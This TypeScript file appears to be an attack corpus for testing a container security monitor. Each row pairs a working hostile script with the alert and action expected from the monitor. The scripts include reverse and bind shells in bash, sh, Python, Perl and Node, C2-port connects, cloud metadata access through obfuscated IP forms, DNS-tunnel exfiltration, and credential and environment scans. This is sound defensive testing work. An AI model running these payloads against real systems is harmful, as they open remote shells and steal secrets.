/**
 * The attack corpus as data: one row per scenario, run in a real container against the real
 * monitor daemon by attack-corpus.test.ts and timed by bench/containment.ts. A row says what runs
 * inside (a script for `interpreter`, from a file or on the command line), what the monitor must
 * make of it (level, category, title, action) and what Incus must report afterwards. New detector
 * classes add rows here; nothing else needs to change unless a row needs a new `setup`.
 *
 * Scripts only ever aim at the bridge gateway (the attacker's listener), at the sibling test
 * container, or at the metadata address, whose packets coi's nft rules drop on the host.
 */

export type AttackClass =
  | 'one-liner'
  | 'stdio-socket'
  | 'pipe-relay'
  | 'pty-relay'
  | 'fifo-loop'
  | 'bind-shell'
  | 'c2-port'
  | 'metadata'
  | 'private-network'
  | 'dns-tunnel'
  | 'environment-scan'
  | 'credential-search'
  | 'canary'
  | 'mass-read'
  | 'mass-write';

export type Interpreter = 'bash' | 'sh' | 'python3' | 'perl' | 'node';

/**
 * What the container needs before the attack: `restricted` (pinned address, coi's restricted
 * rules), plus canaries in /home/code, a 200 MB file at /var/tmp/big pushed from the host, or
 * allowlist mode with coi's DNS resolver (the allowlist is `allowed.test`).
 */
export type Setup = 'restricted' | 'canaries' | 'big-file' | 'allowlist';

/** Where a script aims. */
export interface Target {
  gateway: string;
  /** The attacker's listener on the gateway. */
  port: number;
  /** Another test container on the bridge (a private address). */
  sibling: string;
}

export interface AttackRow {
  class: AttackClass;
  name: string;
  interpreter: Interpreter;
  /** `file`: written to /tmp and run as `interpreter <file>`; `inline`: `-c`/`-e` on argv. */
  run: 'file' | 'inline';
  script: (t: Target) => string;
  setup: Setup;
  level: 'warning' | 'high' | 'critical';
  category: 'process' | 'network' | 'filesystem' | 'environment' | 'credential_access';
  title: string;
  action: 'alerted' | 'paused' | 'killed';
  /** Incus' view afterwards: deleted, Frozen or Running. */
  final: 'gone' | 'frozen' | 'running';
  /** Needs more than the base image has (full python3): coi-default. Node rows always do. */
  needs?: 'coi-default';
  /**
   * A known detection gap: the monitor raises nothing for this row today, and why. The test
   * asserts exactly that (so it turns red once a detector covers the row: drop `gap` then), and
   * the bench counts the row as not contained.
   */
  gap?: string;
}

/** Whether a row can only run in coi-default (node, full python3), not in the base image. */
export const needsDefaultImage = (row: AttackRow): boolean =>
  row.interpreter === 'node' || row.needs === 'coi-default';

const REVERSE_SHELL = 'Reverse shell detected';

const killed = {
  level: 'critical',
  action: 'killed',
  final: 'gone',
} as const;
const paused = { level: 'high', action: 'paused', final: 'frozen' } as const;
const alerted = { level: 'warning', action: 'alerted', final: 'running' } as const;

const shell = (
  cls: AttackClass,
  name: string,
  interpreter: Interpreter,
  script: AttackRow['script'],
  run: AttackRow['run'] = 'file',
): AttackRow => ({
  class: cls,
  name,
  interpreter,
  run,
  script,
  setup: 'restricted',
  category: 'process',
  title: REVERSE_SHELL,
  ...killed,
});

/** A connection, from `interpreter`, that coi's nft rules log: each language's plainest connect. */
const connect = (interpreter: Interpreter, host: string, port: number): string => {
  switch (interpreter) {
    case 'python3':
      return `import socket\ntry:\n    socket.create_connection(("${host}", ${port}), timeout=3)\nexcept OSError:\n    pass\n`;
    case 'perl':
      return `use IO::Socket::INET;\nIO::Socket::INET->new(PeerAddr => "${host}", PeerPort => ${port}, Timeout => 3);\n`;
    case 'node':
      return `const s = require("net").connect(${port}, "${host}");\ns.on("error", () => {});\nsetTimeout(() => process.exit(0), 3000);\n`;
    case 'bash':
      // In the script itself: a `bash -c '…/dev/tcp/…'` command line is a reverse-shell
      // one-liner, killed at its exec before it connects.
      return `exec 3<>/dev/tcp/${host}/${port}\n`;
    case 'sh':
      return `nc -z -w 3 ${host} ${port}\n`;
  }
};

const network = (
  cls: 'c2-port' | 'metadata' | 'private-network',
  name: string,
  interpreter: Interpreter,
  script: AttackRow['script'],
): AttackRow => ({
  class: cls,
  name,
  interpreter,
  run: 'file',
  script,
  setup: 'restricted',
  category: 'network',
  ...(cls === 'c2-port'
    ? { title: 'Connection to suspicious port', ...killed }
    : cls === 'metadata'
      ? { title: 'Metadata endpoint access', ...killed }
      : { title: 'Connection to private network', ...paused }),
});

const scan = (
  cls: 'environment-scan' | 'credential-search',
  name: string,
  interpreter: Interpreter,
  code: string,
): AttackRow => ({
  class: cls,
  name,
  interpreter,
  // On the command line, as an agent's one-liner; it lingers so the process scanner sees it.
  run: 'inline',
  script: () => code,
  setup: 'restricted',
  category: cls === 'environment-scan' ? 'environment' : 'credential_access',
  title:
    cls === 'environment-scan'
      ? 'Environment variable scanning detected'
      : 'Credential file search detected',
  ...alerted,
});

const canary = (name: string, interpreter: Interpreter, code: string): AttackRow => ({
  class: 'canary',
  name,
  interpreter,
  run: 'file',
  script: () => code,
  setup: 'canaries',
  category: 'credential_access',
  title: 'Credential canary accessed',
  ...paused,
});

export const PTY_RELAY = (t: Target) => `import os, select, socket
s = socket.create_connection(("${t.gateway}", ${t.port}))
master, slave = os.openpty()
if os.fork() == 0:
    os.setsid()
    for f in (0, 1, 2):
        os.dup2(slave, f)
    os.execv("/bin/sh", ["sh"])
os.close(slave)
while True:
    ready, _, _ = select.select([s, master], [], [])
    if s in ready:
        os.write(master, s.recv(1024))
    if master in ready:
        s.send(os.read(master, 1024))
`;

export const PY_PIPE_RELAY = (t: Target) => `import socket, subprocess, threading
s = socket.create_connection(("${t.gateway}", ${t.port}))
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
def pump():
    for chunk in iter(lambda: p.stdout.read1(1024), b""):
        s.send(chunk)
threading.Thread(target=pump, daemon=True).start()
for chunk in iter(lambda: s.recv(1024), b""):
    p.stdin.write(chunk)
    p.stdin.flush()
`;

export const PERL_PIPE_RELAY = (t: Target) => `use IO::Socket::INET;
my $s = IO::Socket::INET->new(PeerAddr => "${t.gateway}:${t.port}") or die;
pipe(my $in_r, my $in_w); pipe(my $out_r, my $out_w);
if (!fork) {
  open(STDIN, "<&", $in_r); open(STDOUT, ">&", $out_w); open(STDERR, ">&", $out_w);
  close $in_w; close $out_r; exec "/bin/sh";
}
close $in_r; close $out_w;
if (!fork) { while (sysread($s, my $b, 1024)) { syswrite($in_w, $b) } exit }
while (sysread($out_r, my $b, 1024)) { syswrite($s, $b) }
`;

const NODE_PIPE_RELAY = (
  t: Target,
) => `const s = require("net").connect(${t.port}, "${t.gateway}", () => {
  const p = require("child_process").spawn("/bin/sh", [], { stdio: ["pipe", "pipe", "pipe"] });
  s.pipe(p.stdin);
  p.stdout.pipe(s);
  p.stderr.pipe(s);
});
`;

/** A listening socket whose holder feeds a shell's stdin: a bind shell before anyone connects. */
const PY_BIND = (t: Target) => `import socket, subprocess
l = socket.socket()
l.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
l.bind(("0.0.0.0", ${t.port}))
l.listen()
p = subprocess.Popen(["/bin/sh"], stdin=subprocess.PIPE, stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
c, _ = l.accept()
for chunk in iter(lambda: c.recv(1024), b""):
    p.stdin.write(chunk)
    p.stdin.flush()
`;

const PERL_BIND = (t: Target) => `use IO::Socket::INET;
my $l = IO::Socket::INET->new(LocalAddr => "0.0.0.0:${t.port}", Listen => 1, ReuseAddr => 1) or die;
pipe(my $in_r, my $in_w);
if (!fork) { open(STDIN, "<&", $in_r); close $in_w; exec "/bin/sh"; }
close $in_r;
my $c = $l->accept;
while (sysread($c, my $b, 1024)) { syswrite($in_w, $b) }
`;

const NODE_BIND = (
  t: Target,
) => `const p = require("child_process").spawn("/bin/sh", [], { stdio: ["pipe", "pipe", "pipe"] });
require("net").createServer((c) => { c.pipe(p.stdin); p.stdout.pipe(c); }).listen(${t.port}, "0.0.0.0");
`;

const METADATA = '169.254.169.254';

/** Twelve random 24-byte hex labels under `domain`, the shape of a DNS tunnel's upload. */
const DIG_TUNNEL = (domain: string) =>
  `for i in $(seq 12); do dig +short +time=1 +tries=1 ` +
  `"$(head -c 24 /dev/urandom | od -An -tx1 | tr -d ' \\n').${domain}" A >/dev/null; done\n`;

export const ATTACK_CORPUS: readonly AttackRow[] = [
  // Reverse shells a command-line pattern names.
  shell(
    'one-liner',
    'bash -i on /dev/tcp',
    'bash',
    (t) => `bash -i >& /dev/tcp/${t.gateway}/${t.port} 0>&1`,
    'inline',
  ),
  shell(
    'one-liner',
    'socat exec:sh',
    'sh',
    (t) => `socat TCP:${t.gateway}:${t.port} EXEC:sh`,
    'inline',
  ),
  shell(
    'one-liner',
    'python -c socket + dup2',
    'python3',
    (t) =>
      `import socket,os;s=socket.socket();s.connect(("${t.gateway}",${t.port}));` +
      `[os.dup2(s.fileno(),f) for f in (0,1,2)];os.execv("/bin/sh",["sh","-i"])`,
    'inline',
  ),
  // A shell whose stdio is the socket, from a script file (no pattern on the command line).
  shell(
    'stdio-socket',
    'bash exec on /dev/tcp',
    'bash',
    (t) => `exec 5<>/dev/tcp/${t.gateway}/${t.port}\nexec sh <&5 >&5 2>&5\n`,
  ),
  shell(
    'stdio-socket',
    'python dup2 + exec sh',
    'python3',
    (t) =>
      `import socket, os\nc = socket.create_connection(("${t.gateway}", ${t.port}))\n` +
      'for f in (0, 1, 2):\n    os.dup2(c.fileno(), f)\nos.execv("/bin/sh", ["sh", "-i"])\n',
  ),
  shell(
    'stdio-socket',
    'perl STDIN dup + exec sh',
    'perl',
    (t) =>
      `use IO::Socket::INET;\nmy $s = IO::Socket::INET->new(PeerAddr => "${t.gateway}:${t.port}") or die;\n` +
      'open(STDIN, "<&", $s); open(STDOUT, ">&", $s); open(STDERR, ">&", $s);\nexec "/bin/sh", "-i";\n',
  ),
  shell(
    'stdio-socket',
    'node spawn sh on the socket',
    'node',
    (t) =>
      `const s = require("net").connect(${t.port}, "${t.gateway}", () => {\n` +
      '  require("child_process").spawn("/bin/sh", ["-i"], { stdio: [s, s, s] });\n});\n',
  ),
  // Relays: the shell's stdio are pipes, a pty or a fifo fed by the socket holder.
  shell('pipe-relay', 'python pipe relay', 'python3', PY_PIPE_RELAY),
  shell('pipe-relay', 'perl pipe relay', 'perl', PERL_PIPE_RELAY),
  shell('pipe-relay', 'node pipe relay', 'node', NODE_PIPE_RELAY),
  shell(
    'pipe-relay',
    'bash cat relay around sh',
    'bash',
    (t) => `exec 3<>/dev/tcp/${t.gateway}/${t.port}\ncat <&3 | sh 2>&1 | cat >&3\n`,
  ),
  shell('pty-relay', 'python openpty relay', 'python3', PTY_RELAY),
  {
    ...shell(
      'pty-relay',
      'python pty.spawn',
      'python3',
      (t) =>
        `import os, pty, socket\ns = socket.create_connection(("${t.gateway}", ${t.port}))\n` +
        'for f in (0, 1, 2):\n    os.dup2(s.fileno(), f)\npty.spawn("/bin/sh")\n',
    ),
    needs: 'coi-default',
  },
  shell(
    'pty-relay',
    'socat exec:pty (renamed)',
    'sh',
    (t) =>
      `cp /usr/bin/socat /tmp/relay\nexec /tmp/relay TCP:${t.gateway}:${t.port} EXEC:sh,pty,stderr,setsid\n`,
  ),
  shell(
    'pty-relay',
    'script(1) on /dev/tcp',
    'bash',
    (t) =>
      `exec 3<>/dev/tcp/${t.gateway}/${t.port}\nexec script -qfc /bin/sh /dev/null <&3 >&3 2>&3\n`,
  ),
  shell(
    'fifo-loop',
    'mkfifo + nc loop',
    'sh',
    (t) =>
      `rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | sh 2>&1 | nc ${t.gateway} ${t.port} > /tmp/f\n`,
  ),
  shell(
    'fifo-loop',
    'mkfifo + socat loop',
    'bash',
    (t) =>
      `rm -f /tmp/g; mkfifo /tmp/g\nsh < /tmp/g 2>&1 | socat - TCP:${t.gateway}:${t.port} > /tmp/g\n`,
  ),
  shell(
    'bind-shell',
    'nc -l into sh',
    'sh',
    (t) => `rm -f /tmp/b; mkfifo /tmp/b; nc -l -p ${t.port} < /tmp/b | sh > /tmp/b 2>&1\n`,
  ),
  shell('bind-shell', 'python listener feeding sh', 'python3', PY_BIND),
  shell('bind-shell', 'perl listener feeding sh', 'perl', PERL_BIND),
  shell('bind-shell', 'node listener feeding sh', 'node', NODE_BIND),
  // C2 ports on the gateway, seen in the kernel log of coi's rules.
  network('c2-port', 'nc to 4444', 'sh', (t) => connect('sh', t.gateway, 4444)),
  network('c2-port', 'bash /dev/tcp to 5555', 'bash', (t) => connect('bash', t.gateway, 5555)),
  network('c2-port', 'python to 31337', 'python3', (t) => connect('python3', t.gateway, 31337)),
  network('c2-port', 'perl to 1234', 'perl', (t) => connect('perl', t.gateway, 1234)),
  network('c2-port', 'node to 6667', 'node', (t) => connect('node', t.gateway, 6667)),
  network('c2-port', 'curl to 12345', 'sh', (t) => `curl -s -m 3 http://${t.gateway}:12345/\n`),
  // The metadata endpoint, however spelled.
  network('metadata', 'nc to 169.254.169.254', 'sh', () => connect('sh', METADATA, 80)),
  network('metadata', 'curl decimal 2852039166', 'sh', () => 'curl -s -m 3 http://2852039166/\n'),
  network('metadata', 'python hex 0xa9fea9fe', 'python3', () =>
    connect('python3', '0xa9fea9fe', 80),
  ),
  network('metadata', 'nc octal 0251.0376.0251.0376', 'sh', () =>
    connect('sh', '0251.0376.0251.0376', 80),
  ),
  network('metadata', 'python IPv6-mapped ::ffff:169.254.169.254', 'python3', () =>
    connect('python3', '::ffff:169.254.169.254', 80),
  ),
  network('metadata', 'perl to 169.254.169.254', 'perl', () => connect('perl', METADATA, 80)),
  // Private addresses: the sibling test container.
  network('private-network', 'nc to the sibling', 'sh', (t) => connect('sh', t.sibling, 8080)),
  network('private-network', 'python to the sibling', 'python3', (t) =>
    connect('python3', t.sibling, 22),
  ),
  network('private-network', 'node to the sibling', 'node', (t) =>
    connect('node', t.sibling, 5432),
  ),
  // DNS tunnelling through coi's resolver (allowlist mode).
  {
    class: 'dns-tunnel',
    name: 'dig random hex labels',
    interpreter: 'sh',
    run: 'file',
    script: () => DIG_TUNNEL('tunnel.test'),
    setup: 'allowlist',
    category: 'network',
    title: 'Possible DNS tunnelling',
    ...paused,
  },
  {
    class: 'dns-tunnel',
    name: 'python getaddrinfo base32 labels',
    interpreter: 'python3',
    run: 'file',
    script: () =>
      'import base64, os, socket\nfor i in range(12):\n' +
      '    label = base64.b32encode(os.urandom(20)).decode().rstrip("=").lower()\n' +
      '    try:\n        socket.getaddrinfo(label + ".exfil.test", 80)\n' +
      '    except OSError:\n        pass\n',
    setup: 'allowlist',
    category: 'network',
    title: 'Possible DNS tunnelling',
    ...paused,
  },
  // Environment and credential scanning: warnings, the container keeps running.
  scan('environment-scan', 'env | grep token', 'sh', 'env | grep -i token; sleep 3'),
  scan('environment-scan', 'printenv a secret', 'sh', 'printenv AWS_SECRET_ACCESS_KEY; sleep 3'),
  scan('environment-scan', 'grep -r API_KEY', 'sh', 'grep -r API_KEY /etc/apt; sleep 3'),
  scan('environment-scan', "another process's environ", 'sh', 'cat /proc/1/environ; sleep 3'),
  scan(
    'environment-scan',
    'python dumps os.environ',
    'python3',
    'import os, time; print(os.environ); time.sleep(3)',
  ),
  scan(
    'environment-scan',
    'node dumps process.env',
    'node',
    'console.log(process.env); setTimeout(() => {}, 3000)',
  ),
  scan('environment-scan', 'perl dumps %ENV', 'perl', 'print join("\\n", %ENV); sleep 3'),
  scan('credential-search', 'find id_rsa', 'sh', 'find / -xdev -name id_rsa; sleep 3'),
  scan(
    'credential-search',
    'grep -r aws_secret_access_key',
    'sh',
    'grep -r aws_secret_access_key /home /etc; sleep 3',
  ),
  scan(
    'credential-search',
    'grep -rl private keys',
    'bash',
    'grep -rl "BEGIN OPENSSH PRIVATE KEY" /etc; sleep 3',
  ),
  // Canaries: decoy secrets any open of which is a finding.
  canary('cat ~/.aws/credentials', 'sh', 'cat /home/code/.aws/credentials >/dev/null\n'),
  canary('python reads the ssh key', 'python3', 'open("/home/code/.ssh/id_ed25519").read()\n'),
  canary('node reads .env', 'node', 'require("fs").readFileSync("/home/code/.env");\n'),
  // Mass reads and writes, from the cgroup's I/O counters.
  {
    class: 'mass-read',
    name: 'dd reads 200 MB',
    interpreter: 'sh',
    run: 'file',
    script: () => 'dd if=/var/tmp/big of=/dev/null bs=1M iflag=direct status=none\n',
    setup: 'big-file',
    category: 'filesystem',
    title: 'Large workspace read detected',
    ...paused,
  },
  {
    class: 'mass-write',
    name: 'dd writes 200 MB',
    interpreter: 'sh',
    run: 'file',
    script: () => 'dd if=/dev/zero of=/var/tmp/out bs=1M count=200 oflag=direct status=none\n',
    setup: 'big-file',
    category: 'filesystem',
    title: 'Large workspace write detected',
    ...paused,
  },
];

const CODE_FLAG: Record<Interpreter, string> = {
  bash: '-c',
  sh: '-c',
  python3: '-c',
  perl: '-e',
  node: '-e',
};

const EXTENSION: Record<Interpreter, string> = {
  bash: 'sh',
  sh: 'sh',
  python3: 'py',
  perl: 'pl',
  node: 'js',
};

/** The file to push (if any) and the argv that runs a row's script. */
export function attackCommand(
  row: AttackRow,
  target: Target,
): { file?: { path: string; text: string }; argv: string[] } {
  const text = row.script(target);
  if (row.run === 'inline') return { argv: [row.interpreter, CODE_FLAG[row.interpreter], text] };
  const path = `/tmp/attack.${EXTENSION[row.interpreter]}`;
  return { file: { path, text }, argv: [row.interpreter, path] };
}
